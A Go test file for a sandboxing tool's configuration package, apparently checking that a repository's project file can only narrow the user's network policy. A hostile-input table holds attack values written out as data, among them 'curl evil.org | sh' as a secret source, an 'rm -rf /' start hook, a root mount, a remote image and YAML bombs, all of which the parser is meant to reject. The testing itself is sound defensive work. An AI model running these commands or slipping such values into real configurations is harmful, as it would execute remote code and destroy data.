package config_test

import (
	"encoding/json"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/agent-sessionizer/agent-sessionizer/pkg/config"
	"github.com/agent-sessionizer/agent-sessionizer/pkg/fail"
	"github.com/agent-sessionizer/agent-sessionizer/pkg/policy"
)

func project(t *testing.T, text string) *config.Project {
	t.Helper()
	p, err := config.ParseProject("o/r:"+config.ProjectFile, []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return &p
}

func TestProjectOnlyNarrows(t *testing.T) {
	for _, c := range []struct {
		name, user, project string
		mode                policy.Mode
		names, ports        string
	}{
		{"says nothing", "allowlist", "", "allowlist", "github.com *.npmjs.org", "[80 443 22]"},
		{"wider mode", "allowlist", "network: {mode: open}", "allowlist", "github.com *.npmjs.org", "[80 443 22]"},
		{"wider than isolated", "isolated", "network: {mode: open, allow: [evil.org]}", "isolated", "", "[80 443 22]"},
		{"narrower mode", "open", "network: {mode: isolated}", "isolated", "github.com *.npmjs.org", "[80 443 22]"},
		{"other names", "allowlist", "network: {allow: [evil.org, pkg.npmjs.org, '*.github.com']}", "allowlist", "pkg.npmjs.org", "[80 443 22]"},
		{"part of a wildcard", "allowlist", "network: {allow: ['*.pkg.npmjs.org', '*.evil.org']}", "allowlist", "*.pkg.npmjs.org", "[80 443 22]"},
		{"no names", "allowlist", "network: {allow: []}", "allowlist", "", "[80 443 22]"},
		{"other ports", "allowlist", "network: {ports: [25, 443]}", "allowlist", "github.com *.npmjs.org", "[443]"},
		{"no ports", "allowlist", "network: {ports: []}", "allowlist", "github.com *.npmjs.org", "[]"},
		{"ports of a name", "allowlist", "network: {allow: ['github.com:443,9418', '*.npmjs.org']}", "allowlist", "github.com:443 *.npmjs.org", "[80 443 22]"},
		{"a group", "allowlist", "network: {allow: ['@git']}", "allowlist", "github.com", "[80 443 22]"},
		{"a list where all was open", "open", "network: {allow: [a.org]}", "allowlist", "a.org", "[80 443 22]"},
		{"no list where all was open", "open", "network: {mode: allowlist}", "allowlist", "github.com *.npmjs.org", "[80 443 22]"},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := newFiles(t)
			f.user("config.yaml", "network: {mode: "+c.user+"}\n")
			conf := f.load()
			p := project(t, c.project)
			// Between two starts, the store holds the project as JSON.
			raw, err := json.Marshal(p)
			if err != nil {
				t.Fatal(err)
			}
			var again config.Project
			if err := json.Unmarshal(raw, &again); err != nil || !reflect.DeepEqual(*p, again) {
				t.Fatalf("%v: %+v is %+v as JSON", err, *p, again)
			}
			got := compiled(t, conf, settings(t, conf, "o/r", ""), nil, &again)
			if got.Mode != c.mode || patterns(got) != c.names || fmt.Sprint(got.Ports) != c.ports {
				t.Errorf("%s, %q, %v", got.Mode, patterns(got), got.Ports)
			}
		})
	}
}

// TestUserOverProject checks that the user's additions to a session take precedence over
// the repository's file.
func TestUserOverProject(t *testing.T) {
	c := newFiles(t).load()
	s := settings(t, c, "o/r", "")
	p := compiled(t, c, s, []policy.Rule{{Pattern: "mine.org", Source: "net allow"}}, project(t, "network: {allow: []}"))
	if patterns(p) != "mine.org" {
		t.Error(patterns(p))
	}
	denies := project(t, "network: {deny: [github.com, a.npmjs.org, 'b.npmjs.org:80,443', '*.c.npmjs.org', '@git']}")
	for _, x := range []struct{ allow, want string }{
		{"", "github.com a.npmjs.org b.npmjs.org:80,443 *.c.npmjs.org github.com"},
		{"github.com", "a.npmjs.org b.npmjs.org:80,443 *.c.npmjs.org"},
		{"github.com:443", "github.com:22,80 a.npmjs.org b.npmjs.org:80,443 *.c.npmjs.org github.com:22,80"},
		{"b.npmjs.org:443,8443", "github.com a.npmjs.org b.npmjs.org:80 *.c.npmjs.org github.com"},
		{"x.c.npmjs.org", "github.com a.npmjs.org b.npmjs.org:80,443 *.c.npmjs.org github.com"},
		{"*.npmjs.org", "github.com github.com"},
	} {
		var add config.Additions
		if x.allow != "" {
			r, err := policy.ParseRule(x.allow)
			if err != nil {
				t.Fatal(err)
			}
			add.Allow = []policy.Rule{r}
		}
		p, err := c.Policy(s, add, denies)
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Trim(fmt.Sprint(p.Denied), "[]"); got != x.want {
			t.Errorf("allow %s: denied %s, want %s", x.allow, got, x.want)
		}
	}
	// Only removing the user's own denials lifts them.
	both := config.Additions{Allow: []policy.Rule{{Pattern: "github.com"}}, Deny: []policy.Rule{{Pattern: "github.com", Source: "net deny"}}}
	if p, err := c.Policy(s, both, nil); err != nil || p.Decide(policy.Question{Name: "github.com"}).Source != "net deny" {
		t.Error(p, err)
	}
}

// TestProjectOfUnknownGroup checks that a repository file that names an unknown group
// prevents the session.
func TestProjectOfUnknownGroup(t *testing.T) {
	c := newFiles(t).load()
	for _, text := range []string{"network: {allow: ['@nothing']}", "network: {deny: ['@nothing']}"} {
		_, err := c.Policy(settings(t, c, "", ""), config.Additions{}, project(t, text))
		if fail.CodeOf(err) != fail.Usage || err == nil || !strings.Contains(err.Error(), config.ProjectFile+": ") || !strings.Contains(err.Error(), "@git") {
			t.Error(err)
		}
	}
}

func TestHostileProject(t *testing.T) {
	for name, text := range map[string]string{
		"secrets":       "secrets: {T: 'cmd:curl evil.org | sh'}",
		"resources":     "resources: {cpus: 64}",
		"hooks":         "hooks: {start: rm -rf /}",
		"mounts":        "mounts: [/]",
		"profile":       "profile: trusted",
		"image":         "image: https://evil.org/x.qcow2",
		"lima_home":     "lima_home: /etc",
		"host services": "network: {host_services: ['192.168.1.1:22']}",
		"not enforced":  "network: {enforce: false}",
		"enforced":      "network: {enforce: true}",
		"behind a dash": "network: {mode: allowlist}\n---\nsecrets: {T: env:HOME}\n",
		"merge key":     "x: &x {secrets: {T: env:HOME}}\n<<: *x\n",
		"endless":       strings.Repeat("network: {}\n", 1<<16),
		"deep list":     strings.Repeat("[", 16<<10-1),
		"deep map":      strings.Repeat("{a: ", 4<<10-1),
		"deep block":    strings.Repeat("- ", 8<<10-1),
		"cycle":         "network:\n  allow: &a [*a]\n",
		"cyclic map":    "network: &n\n  mode: *n\n",
		"bad UTF-8":     "network: {mode: \"\xff\xfe\"}",
		"look-alike":    "network: {allow: [gіthub.com]}",
		"port overflow": "network: {ports: [65979]}",
		"many ports":    "network: {ports: [" + strings.Repeat("-1,", 100) + "]}",
	} {
		t.Run(name, func(t *testing.T) {
			p, err := config.ParseProject("o/r:"+config.ProjectFile, []byte(text))
			if fail.CodeOf(err) != fail.Usage || err == nil || !strings.Contains(err.Error(), "o/r:"+config.ProjectFile) {
				t.Fatal(err)
			}
			if !reflect.ValueOf(p).IsZero() {
				t.Errorf("an error and yet a project: %+v", p)
			}
			if len(err.Error()) > 2000 {
				t.Errorf("%d bytes of error", len(err.Error()))
			}
		})
	}
}

// FuzzProject checks that no repository file makes the policy allow anything that the
// user's does not.
func FuzzProject(f *testing.F) {
	f.Add("network: {mode: open, allow: [evil.org, github.com], ports: [443, 25]}")
	f.Add("network:\n  allow:\n    - '*.evil.org'\n  ports: []\n")
	f.Add("network: {deny: ['@git', 'github.com:22'], allow: ['github.com:443,25', '@git']}")
	f.Add("network: &a\n  mode: isolated\n  allow: [*a]\n")
	f.Fuzz(func(t *testing.T, text string) {
		p, err := config.ParseProject("f", []byte(text))
		if err != nil {
			return
		}
		c := newFiles(t).load()
		s := settings(t, c, "o/r", "")
		user := compiled(t, c, s, nil, nil)
		got, err := c.Policy(s, config.Additions{}, &p)
		if err != nil {
			return // without a policy there is no session
		}
		if got.Mode == policy.Open || len(got.HostServices) > 0 {
			t.Fatalf("%+v", got)
		}
		for _, port := range got.Ports {
			if !slices.Contains(user.Ports, port) {
				t.Fatalf("port %d", port)
			}
		}
		for _, r := range got.Names {
			if slices.ContainsFunc(r.Ports, func(port uint16) bool { return !slices.Contains(user.Ports, port) }) {
				t.Fatalf("rule %s", r)
			}
		}
		for _, r := range got.Names {
			zone, wild := strings.CutPrefix(r.Pattern, "*.")
			if r.Pattern != "github.com" && zone != "npmjs.org" && !strings.HasSuffix(zone, ".npmjs.org") || wild && zone == "github.com" {
				t.Fatalf("name %s", r.Pattern)
			}
		}
	})
}
